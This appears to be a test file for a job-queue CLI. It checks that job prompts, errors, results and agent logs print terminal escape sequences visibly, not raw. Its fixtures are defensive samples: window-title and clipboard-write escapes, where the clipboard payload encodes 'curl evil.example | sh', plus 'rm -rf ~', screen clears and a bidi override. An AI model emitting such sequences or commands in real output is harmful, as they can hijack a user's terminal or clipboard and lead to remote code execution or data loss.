// Job data and agent output are written by whoever enqueues and by the
// agent; a terminal obeys the control sequences in what it prints (OSC 0
// retitles the window, OSC 52 writes the clipboard, CSI rewrites the screen).
// So `show`, `list` and `logs` print them visibly (ESC as ␛, C1 as \x9b, ...),
// --json stays exact JSON with no raw control character, and `logs --raw` is
// the file byte for byte.

import { afterAll, beforeAll, describe, expect, test, setDefaultTimeout } from "bun:test";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { visible, jsonText } from "../../src/cli/terminal.ts";
import { Queue } from "../../src/queue/client.ts";
import { createTestDatabase, type TestDatabase } from "../helpers/db.ts";
import { CLI, cliEnv, runCli, tempDir } from "../helpers/cli.ts";
import { REPO } from "../helpers/engine.ts";

setDefaultTimeout(30_000);

// A title change, a clipboard write (OSC 52), a one-character CSI (C1), a bell, a carriage return hiding what came before, a bidi override.
const TITLE = "\x1b]0;you have been pwned\x07";
const CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
const HOSTILE = `fix it ${TITLE}${CLIPBOARD}\x9b2J\x1b[31mred\x1b[0m rm -rf ~\rls \u202eevil`;
/** Any byte a terminal acts on, except \n and \t. */
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

let db: TestDatabase;
let url: string;
let id: string;
const cwd = tempDir("claude-jobs-cwd-");

beforeAll(async () => {
  db = await createTestDatabase();
  url = `--database-url=${db.url}`;
  id = await new Queue(db.sql).enqueue({ kind: "claude", payload: { prompt: HOSTILE, cwd } });
  const errors = [{ attempt: 1, at: new Date().toISOString(), message: `claude exited 1: ${TITLE}boom` }];
  await db.sql`UPDATE claude_jobs SET errors = ${db.sql.json(errors)}, result = ${db.sql.json({ note: `done${CLIPBOARD}` })} WHERE id = ${id}`;
});
afterAll(() => db.drop());

describe("visible", () => {
  test("shows every control character but newline and tab, and leaves other text alone", () => {
    expect(visible("a\x1b]0;t\x07b")).toBe("a␛]0;t␇b");
    expect(visible("\x9b31m \x85 \x7f")).toBe("\\x9b31m \\x85 ␡");
    expect(visible("line\r\nnext\tcol\rover")).toBe("line\nnext\tcol␍over");
    expect(visible("\u202eabc\u2066")).toBe("\\u202eabc\\u2066");
    expect(visible("\0")).toBe("␀");
    expect(visible("héllo ✓ 日本 🙂")).toBe("héllo ✓ 日本 🙂");
    expect(visible(HOSTILE)).not.toMatch(RAW_CONTROL);
  });

  test("jsonText is the same JSON value, with nothing raw a terminal acts on", () => {
    const value = { s: HOSTILE, t: "\x7f\x9b\u2028" };
    const text = jsonText(value);
    expect(JSON.parse(text)).toEqual(value);
    expect(text).not.toMatch(RAW_CONTROL);
  });
});

describe("show and list", () => {
  test("show prints the prompt, the error and the result with their control characters visible", async () => {
    const { code, stdout } = await runCli(["show", id, url]);
    expect(code).toBe(0);
    expect(stdout).not.toMatch(RAW_CONTROL);
    expect(stdout).toContain("␛]0;you have been pwned␇"); // the error message, as written, made visible
    expect(stdout).toContain("claude exited 1: ␛]0;");
  });

  test("show --json is exact JSON: the data round-trips, and no raw control character is printed", async () => {
    const { code, stdout } = await runCli(["show", id, "--json", url]);
    expect(code).toBe(0);
    expect(stdout).not.toMatch(RAW_CONTROL);
    const job = JSON.parse(stdout);
    expect(job.payload.prompt).toBe(HOSTILE);
    expect(job.errors[0].message).toBe(`claude exited 1: ${TITLE}boom`);
    expect(job.result.note).toBe(`done${CLIPBOARD}`);
  });

  test("list shows the prompt visibly; list --json round-trips", async () => {
    const text = await runCli(["list", url]);
    expect(text.code).toBe(0);
    expect(text.stdout).not.toMatch(RAW_CONTROL);
    expect(text.stdout).toContain("fix it ␛]0;");
    const json = await runCli(["list", "--json", url]);
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(json.stdout).jobs[0].payload.prompt).toBe(HOSTILE);
  });
});

describe("logs", () => {
  const logDir = tempDir("claude-jobs-logs-");
  const jobId = "0190a5b4-7c3e-7000-8000-000000000001";
  const base = join(logDir, `${jobId}-20260101-120000`);
  const assistant = JSON.stringify({ type: "assistant", message: { content: [{ type: "text", text: `I ran it. ${TITLE}` }] } });
  const tool = JSON.stringify({ type: "user", message: { content: [{ type: "tool_result", content: `output ${CLIPBOARD}\x9b6n` }] } });
  // Not JSON (a warning the CLI printed), invalid UTF-8, and a last line without a newline.
  const stdoutBytes = Buffer.concat([Buffer.from(`${assistant}\n${tool}\nwarning: \x1b[2J cleared\n`), Buffer.from([0xff, 0xfe, 0x0a]), Buffer.from("tail \x1b]0;x\x07")]);
  const stderrText = `error: ${TITLE}\r\nnext line\n`;

  beforeAll(() => {
    mkdirSync(logDir, { recursive: true, mode: 0o700 });
    writeFileSync(`${base}.stdout.log`, stdoutBytes, { mode: 0o600 });
    writeFileSync(`${base}.stderr.log`, stderrText, { mode: 0o600 });
  });

  test("rendered output shows escape sequences from agent output instead of sending them", async () => {
    const { code, stdout } = await runCli(["logs", jobId, `--log-dir=${logDir}`]);
    expect(code).toBe(0);
    expect(stdout).not.toMatch(RAW_CONTROL);
    expect(stdout).toContain("I ran it. ␛]0;you have been pwned␇");
    expect(stdout).toContain("output ␛]52;c;");
    expect(stdout).toContain("\\x9b6n");
    expect(stdout).toContain("warning: ␛[2J cleared");
    expect(stdout).toContain("tail ␛]0;x␇");
  });

  test("--stderr shows them too (a CRLF is a line end)", async () => {
    const { code, stdout } = await runCli(["logs", jobId, "--stderr", `--log-dir=${logDir}`]);
    expect(code).toBe(0);
    expect(stdout).toBe("error: ␛]0;you have been pwned␇\nnext line\n");
  });

  test("--raw is the file byte for byte (for piping), and its help says so", async () => {
    for (const [args, expected] of [[[], stdoutBytes], [["--stderr"], Buffer.from(stderrText)]] as const) {
      const proc = Bun.spawn([process.execPath, CLI, "logs", jobId, "--raw", ...args, `--log-dir=${logDir}`], { cwd: REPO, env: cliEnv(), stdout: "pipe", stderr: "pipe" });
      const bytes = Buffer.from(await new Response(proc.stdout).arrayBuffer());
      expect(await proc.exited).toBe(0);
      expect(bytes.equals(Buffer.from(expected))).toBe(true);
    }
    const help = await runCli(["logs", "--help"]);
    expect(help.stdout).toMatch(/--raw\s+print the log file byte for byte as written .*for piping/);
  });
});
